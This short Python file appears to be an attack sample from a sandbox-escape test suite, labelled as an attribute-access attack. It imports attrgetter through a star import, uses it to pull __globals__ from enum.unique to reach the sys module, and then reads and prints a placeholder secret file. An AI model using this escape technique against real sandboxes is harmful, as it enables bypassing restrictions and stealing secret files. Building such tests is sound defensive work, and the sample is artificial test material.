# attack: a star brings attrgetter as a bare name, which has no path
# family: attribute
import enum
from operator import *
space = attrgetter("__globals__")(enum.unique)
print("REACHED", space["sys"])
print(space["sys"].modules["io"].open("$SECRET_FILE").read())
